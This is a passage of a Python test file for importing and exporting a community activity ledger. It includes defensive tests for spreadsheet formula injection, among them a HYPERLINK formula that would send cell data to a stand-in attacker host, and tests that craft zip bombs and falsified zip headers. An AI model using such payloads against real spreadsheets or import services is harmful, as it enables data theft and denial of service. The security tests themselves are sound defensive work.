"""Importing and exporting a 台账 (activity ledger), on SQLite and on PostgreSQL."""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from openpyxl import Workbook
from sqlalchemy import delete, func, select
from sqlalchemy.orm import Session, sessionmaker

from bot.admin.ledger import (
    COLUMNS,
    LedgerError,
    RowError,
    export_ledger,
    import_ledger,
    read_figure,
    read_ledger,
)
from bot.core import interview
from bot.core.interview import Context, InterviewState
from bot.core.questionnaire import Questionnaire
from bot.core.types import Incoming
from storage import entries as entry_store
from storage import members as member_store
from storage.db import transaction
from storage.models import Entry, EntryMetric, Member, RoleGrant, RoleName, Unit
from tests.conftest import Clock, register

SHANGHAI = ZoneInfo("Asia/Shanghai")
# Wednesday 24 June 2026, 10:00 in Shanghai.
NOW = datetime(2026, 6, 24, 10, 0, tzinfo=SHANGHAI)

Row = list[Any]

REALISTIC: list[Row] = [
    [
        "新华社区",
        "文体活动",
        "“我们的节日·端午”文艺汇演",
        datetime(2026, 6, 19),
        None,
        "社区文化广场",
        "文艺演出20余场；参与群众4000多人次",
        "组织辖区文艺队伍开展端午主题汇演，群众反响热烈。",
        "李华",
    ],
    [
        "demo-chaoyang",
        "理论学习",
        "党史学习教育专题讲座",
        "2026年5月12日",
        None,
        "朝阳社区党群服务中心",
        "学习3场，参与人次近百",
        "邀请社区老党员讲党史故事。",
        "王芳",
    ],
    [
        "朝阳社区",
        "志愿服务",
        "敬老助残志愿服务周",
        "5月18日",
        "2026-05-22",
        None,
        "志愿者20人、服务群众300多人次",
        "走访慰问辖区独居老人。",
        "王芳",
    ],
    [
        "和平街道",
        "宣传教育",
        "文明城市创建入户宣传",
        date(2026, 4, 8),
        None,
        None,
        None,
        "发放倡议书，讲解创建知识。",
        "张伟",
    ],
    [
        "demo-xinhua",
        "全民阅读",
        "“书香社区”读书分享会",
        "6月3日",
        None,
        "社区书屋",
        "读书活动2场;参与人次30-40人次",
        "居民分享读书心得。",
        "李华",
    ],
    [None, None, None, None, None, None, None, None, None],  # a blank row: skipped
    [
        "新华社区",
        "阵地建设",
        "社区书屋改造提升",
        "2026/3/15",
        "2026年3月30日",
        None,
        "新建（改造）场所1个\n投入资金3.9万元",
        None,
        "陈静",
    ],
]


def write_xlsx(path: Path, rows: list[Row], header: Row | None = None, title: str | None = None):
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    if title is not None:
        sheet.append([title])
    sheet.append(list(COLUMNS) if header is None else header)
    for row in rows:
        sheet.append(row)
    for cells in sheet.iter_rows():
        for cell in cells:
            if isinstance(cell.value, datetime | date):
                cell.number_format = "yyyy-mm-dd"
    workbook.save(path)
    return path


def write_csv(path: Path, rows: list[Row], encoding: str) -> Path:
    import csv

    with path.open("w", encoding=encoding, newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(COLUMNS)
        writer.writerows(rows)
    return path


def figures(entry: Entry) -> list[tuple[str, Decimal, Decimal | None, str, str]]:
    return [(m.question_id, m.low, m.high, m.approx, m.unit) for m in entry.metrics]


def snapshot(session: Session) -> list[tuple[Any, ...]]:
    """What a ledger carries of each live entry, comparable across imports."""
    rows = []
    for e in entry_store.entries_in(session, None, None):
        content = e.answers.get("content")
        rows.append(
            (
                e.unit.code,
                e.area,
                e.title,
                e.start_date,
                e.end_date,
                e.location,
                tuple((m.question_id, m.low, m.high, m.approx) for m in e.metrics),
                content["text"] if content else None,
                e.member.name,
            )
        )
    return sorted(rows, key=lambda r: (r[3], r[2]))


def count(session: Session, model: Any) -> int:
    return int(session.scalar(select(func.count()).select_from(model)) or 0)


def wipe_entries(sessions: sessionmaker[Session]) -> None:
    with transaction(sessions) as session:
        session.execute(delete(EntryMetric))
        session.execute(delete(Entry))


@pytest.fixture
def people(sessions: sessionmaker[Session], demo_org: None) -> dict[str, int]:
    """李华 reports for 新华社区, 张伟 coordinates the district, 陈静 works in 朝阳社区."""
    return {
        "李华": register(sessions, "李华", "demo-xinhua"),
        "张伟": register(sessions, "张伟", "demo-district", RoleName.COORDINATOR),
        "陈静": register(sessions, "陈静", "demo-chaoyang"),
    }


@pytest.fixture
def culture(questionnaires: dict[str, Questionnaire]) -> Questionnaire:
    return questionnaires["community_culture"]


def test_a_realistic_ledger_is_imported_figure_by_figure(
    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
) -> None:
    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
    with transaction(sessions) as session:
        result = import_ledger(session, path, culture, now=NOW)
    assert result.errors == ()
    assert result.created == 6

    with sessions() as session:
        entries = {e.title: e for e in entry_store.entries_in(session, None, None)}
        assert len(entries) == 6

        show = entries["“我们的节日·端午”文艺汇演"]
        assert (show.unit.code, show.area, show.area_name) == (
            "demo-xinhua",
            "recreation",
            "文体活动",
        )
        assert (show.start_date, show.end_date, show.period) == (
            date(2026, 6, 19),
            date(2026, 6, 19),
            "2026H1",
        )
        assert show.location == "社区文化广场"
        assert figures(show) == [
            ("sessions", Decimal(20), None, "more_than", "场次"),
            ("attendance", Decimal(4000), None, "more_than", "人次"),
        ]
        assert [m.label for m in show.metrics] == ["演出（活动）场次", "参与群众"]
        assert show.member_id == people["李华"]  # an existing member is reused
        # the answers have the shapes the interview stores, so /edit works on them
        assert show.answers["area"] == "recreation"
        assert show.answers["title"] == {"text": "“我们的节日·端午”文艺汇演"}
        assert show.answers["dates"] == {"start": "2026-06-19", "end": "2026-06-19"}
        assert show.answers["location"] == {"text": "社区文化广场"}
        assert show.answers["content"] == {
            "text": "组织辖区文艺队伍开展端午主题汇演，群众反响热烈。"
        }
        assert show.answers["attendance"] == {
            "low": "4000",
            "high": None,
            "approx": "more_than",
            "raw": "4000多人次",
            "unit": "人次",
        }
        assert show.answers["performers"] == {"skipped": True}  # optional, not in the ledger
        assert show.answers["photos"] == {"skipped": True}
        assert "achievements" not in show.answers  # required: left for the reporter to add

        lecture = entries["党史学习教育专题讲座"]
        assert lecture.unit.code == "demo-chaoyang"
        assert lecture.start_date == date(2026, 5, 12)
        assert figures(lecture) == [
            ("sessions", Decimal(3), None, "exact", "场次"),
            ("attendance", Decimal(100), None, "about", "人次"),
        ]

        week = entries["敬老助残志愿服务周"]
        assert (week.start_date, week.end_date) == (date(2026, 5, 18), date(2026, 5, 22))
        assert week.location is None
        assert week.answers["location"] == {"skipped": True}
        assert figures(week) == [
            ("volunteers", Decimal(20), None, "exact", "名"),
            ("served", Decimal(300), None, "more_than", "人次"),
        ]
        # 王芳 is no member: kept as text on the entries, which are the coordinator's (no
        # member is created who would get messages nobody reads)
        assert lecture.member_id == week.member_id == people["张伟"]
        assert week.answers["reporter"] == {"text": "王芳"}

        drive = entries["文明城市创建入户宣传"]
        assert drive.unit.code == "demo-street"
        assert drive.metrics == []  # no figures: the summary marks them 【待补充】
        assert "audience" not in drive.answers  # required figure: absent
        assert drive.answers["slogans"] == {"skipped": True}  # optional figure: skipped
        assert drive.member_id == people["张伟"]  # a district role covers the street

        reading = entries["“书香社区”读书分享会"]
        assert reading.start_date == date(2026, 6, 3)
        assert figures(reading) == [
            ("sessions", Decimal(2), None, "exact", "场次"),
            ("attendance", Decimal(30), Decimal(40), "range", "人次"),
        ]

        works = entries["社区书屋改造提升"]
        assert (works.start_date, works.end_date) == (date(2026, 3, 15), date(2026, 3, 30))
        assert figures(works) == [
            ("sites", Decimal(1), None, "exact", "个"),
            ("funding", Decimal("3.9"), None, "exact", "万元"),
        ]
        assert "content" not in works.answers
        # 陈静 works in 朝阳社区, not 新华社区: kept as text, the coordinator's entry
        assert works.member_id == people["张伟"]
        assert works.answers["reporter"] == {"text": "陈静"}
        assert count(session, Member) == 3  # nobody created


def test_an_imported_entry_opens_for_edit_like_one_from_the_chat(
    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
) -> None:
    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC[:1])
    with transaction(sessions) as session:
        assert import_ledger(session, path, culture, now=NOW).created == 1
    with sessions() as session:
        entry = entry_store.entries_in(session, None, None)[0]
        answers = dict(entry.answers)
        stored = figures(entry)
        entry_id, unit_id = entry.id, entry.unit_id
    ctx = Context(culture, NOW, NOW.date())
    step = interview.start_edit(ctx, [(unit_id, "新华社区")], entry_id, unit_id, answers)
    assert step.state is not None
    card = step.replies[-1].text
    assert "4000余人次" in card and "社区文化广场" in card
    # saving asks for what the ledger could not say (取得成效) ...
    incoming = Incoming("shell", "李华", "1", NOW, text="1")
    saved = interview.answer(ctx, step.state, incoming)
    assert saved.state is not None and saved.state.cursor == "achievements"
    # ... and with it the draft carries the imported figures unchanged
    state = InterviewState.from_json(saved.state.to_json())
    state.answers["achievements"] = {"text": "群众反响热烈。"}
    draft = interview.build_draft(ctx, state)
    assert [(m.question_id, m.low, m.high, m.approx, m.unit) for m in draft.metrics] == stored
    assert (draft.area, draft.title, draft.location) == (
        "recreation",
        "“我们的节日·端午”文艺汇演",
        "社区文化广场",
    )


def test_every_bad_row_is_reported_and_nothing_is_stored(
    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
) -> None:
    good = REALISTIC[0]
    rows = [
        good,  # row 2: fine
        ["幸福社区", *good[1:]],  # 3: unknown unit
        [good[0], "体育比赛", *good[2:]],  # 4: unknown area
        [*good[:6], "参与群众很多人", *good[7:]],  # 5: no number
        [*good[:3], "2026-06-10", "2026-06-08", *good[5:]],  # 6: ends before it starts
        [*good[:2], None, *good[3:]],  # 7: no title
        [
            "新华社区",
            "理论学习",
            "学习会",
            "6月1日",
            None,
            None,
            "学习2场；发放资料200份",
            "x",
            "李华",
        ],  # 8: 份
        [*good[:6], "参与群众50人次；观众60人次", *good[7:]],  # 9: the same figure twice
        [
            *good[:3],
            "7月30日",
            *good[4:],
        ],  # 10: 7月30日 is within 60 days: this year, in the future
        [*good[:8], None],  # 11: no reporter
        [
            "新华社区",
            "体育",
            None,
            "昨天",
            "前天",
            None,
            "参与人次五十五十",
            None,
            "李华",
        ],  # 12: several
    ]
    path = write_xlsx(tmp_path / "台账.xlsx", rows)
    with transaction(sessions) as session:
        before = (count(session, Entry), count(session, Member), count(session, RoleGrant))
    with sessions() as session:
        result = import_ledger(session, path, culture, now=NOW)
        assert not session.new and not session.dirty  # nothing pending, nothing flushed
        assert (count(session, Entry), count(session, Member), count(session, RoleGrant)) == before
        session.commit()
    with sessions() as session:
        assert (count(session, Entry), count(session, Member), count(session, RoleGrant)) == before

    assert result.created == 0
    found = [(e.row, e.column) for e in result.errors]
    assert found == [
        (3, "单位"),
        (4, "类别"),
        (5, "数量"),
        (6, "结束日期"),
        (7, "活动名称"),
        (8, "数量"),
        (9, "数量"),
        (10, "开始日期"),
        (11, "填报人"),
        (12, "类别"),
        (12, "活动名称"),
        (12, "结束日期"),
    ]
    by_row = {(e.row, e.column): e for e in result.errors}
    assert "幸福社区" in by_row[3, "单位"].reason
    assert "体育比赛" in by_row[4, "类别"].reason and "理论学习" in by_row[4, "类别"].reason
    assert str(by_row[5, "数量"]).startswith("第5行 “数量”: “参与群众很多人” cannot be read")
    assert "2026-06-08" in by_row[6, "结束日期"].reason
    assert "发放资料200份" in by_row[8, "数量"].reason and "份" in by_row[8, "数量"].reason
    assert "参与群众" in by_row[9, "数量"].reason
    # in the chat's words: the import reads 开始日期 by the chat's rules (bot.core.answers)
    assert "2026年7月30日（周四） 还没到" in by_row[10, "开始日期"].reason
    assert all(e.reason for e in result.errors)


def test_a_figure_is_split_into_its_label_and_its_count() -> None:
    assert read_figure("参与群众4000多人次") == ("参与群众", read_figure("4000多人次")[1])
    assert read_figure("二十四节气活动3场")[0] == "二十四节气活动"
    assert read_figure("参与人次30—40人次")[1].high == Decimal(40)
    assert read_figure("参与人次约100人次")[1].approx.value == "about"


def test_a_wrong_header_names_the_missing_columns(tmp_path: Path) -> None:
    header = ["单位", "类别", "活动名", "开始日期", "结束日期", "地点", "数量", "内容与成效"]
    path = write_xlsx(tmp_path / "bad.xlsx", [], header=header)
    with pytest.raises(LedgerError) as raised:
        read_ledger(path)
    message = str(raised.value)
    assert "“活动名称”" in message and "“填报人”" in message and "“活动名”" in message
    assert "“单位”" not in message.split("lacks")[1].split(";")[0]


def test_unsupported_or_unreadable_files_are_ledger_errors(
    sessions: sessionmaker[Session], culture: Questionnaire, tmp_path: Path
) -> None:
    text = tmp_path / "台账.txt"
    text.write_text("x")
    with pytest.raises(LedgerError, match="unsupported"):
        read_ledger(text)
    broken = tmp_path / "台账.xlsx"
    broken.write_bytes(b"not a zip file")
    with pytest.raises(LedgerError, match="cannot read"):
        read_ledger(broken)
    empty = write_xlsx(tmp_path / "empty.xlsx", [])
    with sessions() as session, pytest.raises(LedgerError, match="no data rows"):
        import_ledger(session, empty, culture, now=NOW)
    with sessions() as session, pytest.raises(LedgerError, match="unsupported"):
        export_ledger(session, tmp_path / "out.ods")


def test_a_title_row_above_the_header_keeps_the_row_numbers(tmp_path: Path) -> None:
    rows = [REALISTIC[0], [None] * 9, REALISTIC[1]]
    path = write_xlsx(tmp_path / "台账.xlsx", rows, title="2026年上半年社区宣传文化工作台账")
    records = read_ledger(path)
    assert [r["_row"] for r in records] == [3, 5]
    assert records[0]["活动名称"] == "“我们的节日·端午”文艺汇演"
    assert records[0]["开始日期"] == datetime(2026, 6, 19)


@pytest.mark.parametrize("encoding", ["gbk", "utf-8-sig", "utf-8"])
def test_a_csv_ledger_imports_in_any_office_encoding(
    sessions: sessionmaker[Session],
    people: dict[str, int],
    culture: Questionnaire,
    tmp_path: Path,
    encoding: str,
) -> None:
    rows = [
        [
            "新华社区",
            "理论学习",
            "学习会",
            "2026-06-01",
            "",
            "活动室",
            "学习场次3场次；参与人次4000余人次",
            "学习讲话精神",
            "李华",
        ],
        [
            "朝阳社区",
            "其他",
            "端午包粽子",
            "2026年6月19日",
            "/",
            "/",
            "参与人次近百",
            "包粽子",
            "陈静",
        ],
    ]
    path = write_csv(tmp_path / "台账.csv", rows, encoding)
    with transaction(sessions) as session:
        result = import_ledger(session, path, culture, now=NOW)
    assert (result.created, result.errors) == (2, ())
    with sessions() as session:
        entries = entry_store.entries_in(session, None, None)
        assert [(e.title, e.member.name, e.location) for e in entries] == [
            ("学习会", "李华", "活动室"),
            ("端午包粽子", "陈静", None),
        ]
        assert figures(entries[0]) == [
            ("sessions", Decimal(3), None, "exact", "场次"),
            ("attendance", Decimal(4000), None, "more_than", "人次"),
        ]
        assert figures(entries[1]) == [("attendance", Decimal(100), None, "about", "人次")]


def test_export_then_import_gives_back_the_same_entries(
    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
) -> None:
    with transaction(sessions) as session:
        source = write_xlsx(tmp_path / "source.xlsx", REALISTIC)
        assert import_ledger(session, source, culture, now=NOW).created == 6
    with sessions() as session:
        original = snapshot(session)
        assert export_ledger(session, tmp_path / "out.xlsx") == 6
        assert export_ledger(session, tmp_path / "out.csv") == 6
        chaoyang = member_store.unit_by_key(session, "demo-chaoyang")
        assert export_ledger(session, tmp_path / "cy.csv", unit=chaoyang, period="2026H1") == 2
        assert export_ledger(session, tmp_path / "h2.csv", period="2026年下半年") == 0
        members = count(session, Member)

    exported = read_ledger(tmp_path / "out.csv")
    reading = next(r for r in exported if r["活动名称"] == "“书香社区”读书分享会")
    # one column per figure, its unit in the header (issue 13: no more one text cell)
    assert (reading["读书活动(场次)"], reading["参与人次(人次)"]) == ("2", "30—40")
    assert reading["序号"] and reading["编号"]
    assert reading["单位"] == "新华社区" and reading["开始日期"] == "2026-06-03"

    for name in ("out.xlsx", "out.csv"):
        wipe_entries(sessions)
        with transaction(sessions) as session:
            result = import_ledger(session, tmp_path / name, culture, now=NOW)
        assert (result.created, result.errors) == (6, ()), name
        with sessions() as session:
            assert snapshot(session) == original, name
            assert count(session, Member) == members  # reporters found again, none created


def test_export_writes_a_unit_code_when_its_name_is_not_unique(
    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
) -> None:
    with transaction(sessions) as session:
        street = member_store.unit_by_key(session, "demo-street")
        assert street is not None
        twin = Unit(code="other-xinhua", name="新华社区", kind="社区", parent_id=street.id, path="")
        session.add(twin)
        session.flush()
        twin.path = f"{street.path}{twin.id}/"
        path = write_xlsx(tmp_path / "in.xlsx", [["demo-xinhua", *REALISTIC[0][1:]]])
        assert import_ledger(session, path, culture, now=NOW).created == 1
    with sessions() as session:
        export_ledger(session, tmp_path / "out.xlsx")
    [row] = read_ledger(tmp_path / "out.xlsx")
    assert row["单位"] == "demo-xinhua"
    # and a shared name on import asks for the code
    with sessions() as session:
        path = write_xlsx(tmp_path / "again.xlsx", [["新华社区", *REALISTIC[0][1:]]])
        result = import_ledger(session, path, culture, now=NOW)
    assert result.errors == (
        RowError(2, "单位", "“新华社区” is the name of 2 units; write the unit's code instead"),
    )


# --- typed text that looks like a formula (issue 11, item 2) ---------------------------

FORMULA_LIKE = {
    "活动名称": '=HYPERLINK("http://e.vil/?"&B2,"查看附件")',
    "地点": "@SUM(A1:A9)",
    "内容与成效": "-组织居民观看专题片+3",
    "填报人": "+李华",
}


def formula_like_ledger(path: Path) -> Path:
    """A CSV ledger of two activities whose typed text starts like a formula (or a quote)."""
    rows = [
        [
            "新华社区",
            "理论学习",
            FORMULA_LIKE["活动名称"],
            "2026-06-01",
            "",
            FORMULA_LIKE["地点"],
            "学习场次3场次",
            FORMULA_LIKE["内容与成效"],
            FORMULA_LIKE["填报人"],
        ],
        [
            "朝阳社区",
            "理论学习",
            "'引号开头的标题",
            "2026-06-02",
            "",
            "活动室",
            "",
            "=1+2",
            "陈静",
        ],
    ]
    return write_csv(path, rows, "utf-8-sig")


def test_the_xlsx_export_writes_formula_like_text_as_text(
    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
) -> None:
    from openpyxl import load_workbook

    with transaction(sessions) as session:
        source = formula_like_ledger(tmp_path / "in.csv")
        assert import_ledger(session, source, culture, now=NOW).created == 2
    with sessions() as session:
        original = snapshot(session)
        export_ledger(session, tmp_path / "out.xlsx")

    sheet_xml = zipfile.ZipFile(tmp_path / "out.xlsx").read("xl/worksheets/sheet1.xml")
    # no formula but the export's own subtotals (issue 13)
    formulas = sheet_xml.split(b"<f>")[1:]
    assert formulas and all(f.startswith(b"SUBTOTAL(9,") for f in formulas)
    assert b"<f " not in sheet_xml
    sheet = load_workbook(tmp_path / "out.xlsx").active
    assert sheet is not None
    header = [cell.value for cell in sheet[2]]  # below the title row
    row = dict(zip(header, sheet[3], strict=True))
    for column, typed in FORMULA_LIKE.items():
        cell = row[column]
        assert (cell.value, cell.data_type) == (typed, "s"), column
        assert cell.quotePrefix, column  # Excel keeps it text when the cell is edited
    assert not row["单位"].quotePrefix  # ordinary text is left alone

    wipe_entries(sessions)
    with transaction(sessions) as session:
        result = import_ledger(session, tmp_path / "out.xlsx", culture, now=NOW)
    assert (result.created, result.errors) == (2, ())
    with sessions() as session:
        assert snapshot(session) == original


def test_the_csv_export_puts_a_quote_before_formula_like_text_and_the_import_takes_it_off(
    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
) -> None:
    import csv

    with transaction(sessions) as session:
        source = formula_like_ledger(tmp_path / "in.csv")
        assert import_ledger(session, source, culture, now=NOW).created == 2
    with sessions() as session:
        original = snapshot(session)
        members = count(session, Member)
        export_ledger(session, tmp_path / "out.csv")

    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as handle:
        header, *rows = list(csv.reader(handle))
    cells = [dict(zip(header, row, strict=True)) for row in rows]
    first = next(c for c in cells if c["单位"] == "新华社区")
    for column, typed in FORMULA_LIKE.items():
        assert first[column] == "'" + typed, column  # OWASP: shown as text, never run
    assert first["开始日期"] == "2026-06-01"  # dates and plain text as they were
    assert first["学习场次（场次）"] == "3"
    second = next(c for c in cells if c["单位"] == "朝阳社区")
    assert second["活动名称"] == "''引号开头的标题"  # a quote of its own is kept apart
    assert second["内容与成效"] == "'=1+2"

    wipe_entries(sessions)
    with transaction(sessions) as session:
        result = import_ledger(session, tmp_path / "out.csv", culture, now=NOW)
    assert (result.created, result.errors) == (2, ())
    with sessions() as session:
        assert snapshot(session) == original  # exactly the quotes the export added are gone
        assert count(session, Member) == members
    titles = {r[2] for r in original}
    assert titles == {FORMULA_LIKE["活动名称"], "'引号开头的标题"}


# --- a full disk during the import (issue 11, item 5) ----------------------------------


@pytest.fixture
def cli_env(engine: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, str]:
    """The CLI's environment, on the test's database (SQLite or PostgreSQL)."""
    import os

    for name in list(os.environ):
        if name.startswith("HUIBAO_"):
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)  # no stray .env is read
    return {
        "HUIBAO_DATABASE_URL": engine.url.render_as_string(hide_password=False),
        "HUIBAO_LOG_LEVEL": "WARNING",
    }


def stored(sessions: sessionmaker[Session]) -> tuple[int, int, int, int]:
    from storage.models import QuestionnaireVersion

    with sessions() as session:
        return (
            count(session, Entry),
            count(session, EntryMetric),
            count(session, Member),
            count(session, QuestionnaireVersion),
        )


@pytest.mark.parametrize("where", ["insert", "commit"])
def test_a_full_disk_during_the_import_says_so_and_stores_nothing(
    engine: Any,
    sessions: sessionmaker[Session],
    people: dict[str, int],
    cli_env: dict[str, str],
    tmp_path: Path,
    where: str,
    clock: Clock,
) -> None:
    from click.testing import CliRunner
    from sqlalchemy import Engine, event
    from sqlalchemy.exc import OperationalError

    from bot.admin.cli import main

    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
    before = stored(sessions)
    dbapi = engine.dialect.loaded_dbapi
    full = (
        "database or disk is full"
        if engine.dialect.name == "sqlite"
        else 'could not extend file "base/16384/16385": No space left on device'
    )

    # The seam: every engine (the CLI builds its own) fails as a full disk does, at the
    # entries' INSERT (new members were written before it) or at the COMMIT after it.
    wrote: set[int] = set()

    def refuse_insert(connection: Any, _cur: Any, statement: str, *_: Any) -> None:
        if statement.lstrip().upper().startswith("INSERT INTO ENTRIES"):
            if where == "insert":
                raise dbapi.OperationalError(full)
            wrote.add(id(connection))

    def refuse_commit(connection: Any) -> None:
        if id(connection) in wrote:
            raise OperationalError("COMMIT", None, dbapi.OperationalError(full))

    event.listen(Engine, "before_cursor_execute", refuse_insert)
    event.listen(Engine, "commit", refuse_commit)
    try:
        result = CliRunner().invoke(  # at the clock's time: the ledger's years are read from it
            main, ["entries", "import", str(path)], env=cli_env, catch_exceptions=False, obj=clock
        )
    finally:
        event.remove(Engine, "before_cursor_execute", refuse_insert)
        event.remove(Engine, "commit", refuse_commit)

    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert result.output.strip().splitlines() == [
        "Error: 导入“台账.xlsx”失败：数据库所在的磁盘已满，记录写不进去"
        f"（{full}）。这次导入已全部撤销，一条也没有保存；请清理磁盘空间后重新导入。"
    ]
    assert stored(sessions) == before  # no entry, no new member (王芳), no questionnaire row


# --- limits: zip bombs, long ledgers, streaming (issue 11, item 6) ---------------------


def small_limits(**values: int) -> Any:
    from bot.settings import ImportSettings

    return ImportSettings(**values)


def rewrite_member(path: Path, member: str, change: Any) -> None:
    """Rewrite one part of an .xlsx (a zip) through `change(bytes) -> bytes`."""
    with zipfile.ZipFile(path) as archive:
        parts = [(info, archive.read(info.filename)) for info in archive.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for info, data in parts:
            archive.writestr(info.filename, change(data) if info.filename == member else data)


SHEET = "xl/worksheets/sheet1.xml"


def test_a_zip_bomb_is_refused_before_it_is_unpacked(
    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
) -> None:
    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
    # 3 MB of blanks in the sheet, and broken XML after them: had it been unpacked and
    # parsed, the error would be about the XML, not the size.
    rewrite_member(path, SHEET, lambda xml: xml.replace(b"</sheetData>", b" " * 3_000_000 + b"<"))
    assert path.stat().st_size < 50_000
    before = stored(sessions)
    with sessions() as session, pytest.raises(LedgerError) as raised:
        import_ledger(session, path, culture, now=NOW, limits=small_limits(max_uncompressed_mb=2))
    assert str(raised.value) == (
        "台账.xlsx: unpacked, the workbook would be 2.9 MB; at most 2 MB can be imported "
        "(HUIBAO_LEDGER_IMPORT__MAX_UNCOMPRESSED_MB); split the ledger into smaller files"
    )
    assert stored(sessions) == before
    # the same file within a larger limit is read (and its broken XML reported)
    with pytest.raises(LedgerError, match="cannot read the Excel file"):
        read_ledger(path, small_limits(max_uncompressed_mb=4))


def test_a_zip_that_understates_its_sizes_is_not_unpacked_beyond_them(
    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
) -> None:
    import struct

    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
    rewrite_member(
        path, SHEET, lambda xml: xml.replace(b"</sheetData>", b" " * 3_000_000 + b"</sheetData>")
    )
    data = bytearray(path.read_bytes())
    name = SHEET.encode()
    # declare 20 KB for the sheet, in its local header and in the central directory
    local = data.index(b"PK\x03\x04")
    while data[local + 30 : local + 30 + len(name)] != name:
        local = data.index(b"PK\x03\x04", local + 4)
    struct.pack_into("<I", data, local + 22, 20_000)
    central = data.index(b"PK\x01\x02")
    while data[central + 46 : central + 46 + len(name)] != name:
        central = data.index(b"PK\x01\x02", central + 4)
    struct.pack_into("<I", data, central + 24, 20_000)
    path.write_bytes(bytes(data))

    before = stored(sessions)
    with sessions() as session, pytest.raises(LedgerError, match="cannot read the Excel file"):
        import_ledger(session, path, culture, now=NOW, limits=small_limits(max_uncompressed_mb=1))
    assert stored(sessions) == before


def test_a_ledger_longer_than_the_limit_is_refused_and_nothing_is_stored(
    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
) -> None:
    good = [row for row in REALISTIC if row[0] is not None]  # 6 activities, a blank row out
    xlsx = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
    csv_path = write_csv(
        tmp_path / "台账.csv",
        [[v.isoformat() if isinstance(v, date | datetime) else v for v in row] for row in good],
        "utf-8-sig",
    )
    before = stored(sessions)
    for path in (xlsx, csv_path):
        with sessions() as session, pytest.raises(LedgerError) as raised:
            # batches of 2: four activities are written before the fifth is refused
            import_ledger(
                session, path, culture, now=NOW, limits=small_limits(max_rows=4), batch_size=2
            )
        assert str(raised.value) == (
            f"{path.name}: more than 4 activities (row 6); at most 4 can be imported at "
            "once (HUIBAO_LEDGER_IMPORT__MAX_ROWS); split the ledger into smaller files"
        )
        assert stored(sessions) == before
    with transaction(sessions) as session:  # at the limit, all are imported
        limits = small_limits(max_rows=6)
        assert import_ledger(session, xlsx, culture, now=NOW, limits=limits).created == 6


def test_a_row_beyond_excels_last_row_stops_the_reading(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC[:1])
    # one more row, numbered far beyond Excel's last: the rows between are read as blank
    rewrite_member(
        path,
        SHEET,
        lambda xml: xml.replace(
            b"</sheetData>",
            b'<row r="3000000000"><c r="A3000000000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>',
        ),
    )
    with pytest.raises(LedgerError, match="row 1,048,577 is beyond Excel's last row"):
        read_ledger(path)


def test_a_sheet_that_declares_too_small_a_size_is_read_whole(tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "台账.xlsx", REALISTIC)
    rewrite_member(
        path,
        SHEET,
        lambda xml: xml.replace(b'<dimension ref="A1:I8"/>', b'<dimension ref="A1:I2"/>'),
    )
    assert b'ref="A1:I2"' in zipfile.ZipFile(path).read(SHEET)
    assert [r["_row"] for r in read_ledger(path)] == [2, 3, 4, 5, 6, 8]


def test_an_import_writes_in_batches_and_a_late_bad_row_undoes_them(
    engine: Any,
    sessions: sessionmaker[Session],
    people: dict[str, int],
    culture: Questionnaire,
    tmp_path: Path,
) -> None:
    from sqlalchemy import event

    good = [row for row in REALISTIC if row[0] is not None]
    # 24 activities (each title numbered: a repeated row would be skipped as already imported)
    rows = [[*row[:2], f"{row[2]}（{n}）", *row[3:]] for n in range(4) for row in good]
    path = write_xlsx(tmp_path / "台账.xlsx", rows)
    inserts: list[str] = []

    def record(_c: Any, _cur: Any, statement: str, *_: Any) -> None:
        if statement.lstrip().upper().startswith("INSERT INTO ENTRY_METRICS "):
            inserts.append(statement)

    event.listen(engine, "before_cursor_execute", record)
    try:
        with transaction(sessions) as session:
            result = import_ledger(session, path, culture, now=NOW, batch_size=10)
        assert (result.created, result.errors) == (24, ())
        # the figures of 10 + 10 + 4 entries, not one statement per entry (SQLite has no
        # ordered multi-row RETURNING, so its entries' INSERT runs per row)
        assert len(inserts) == 3

        wipe_entries(sessions)
        before = stored(sessions)
        bad = [*rows, ["幸福社区", *good[0][1:]]]  # row 26: unknown unit, after 2 batches
        path = write_xlsx(tmp_path / "bad.xlsx", bad)
        with sessions() as session:
            mine = Member(name="导入前加的人", locale="zh")  # the caller's own work ...
            session.add(mine)
            session.flush()
            result = import_ledger(session, path, culture, now=NOW, batch_size=10)
            assert [(e.row, e.column) for e in result.errors] == [(26, "单位")]
            assert not session.new and not session.dirty
            session.commit()  # ... stays; the import's batches are gone
        with sessions() as session:
            assert count(session, Entry) == 0 and count(session, EntryMetric) == 0
            assert count(session, Member) == before[2] + 1
    finally:
        event.remove(engine, "before_cursor_execute", record)


def test_an_unknown_reporter_in_two_units_is_text_on_the_coordinators_entries(
    sessions: sessionmaker[Session], people: dict[str, int], culture: Questionnaire, tmp_path: Path
) -> None:
    # Before issue 13 an unknown 王芳 became a member per unit (with a role, no account):
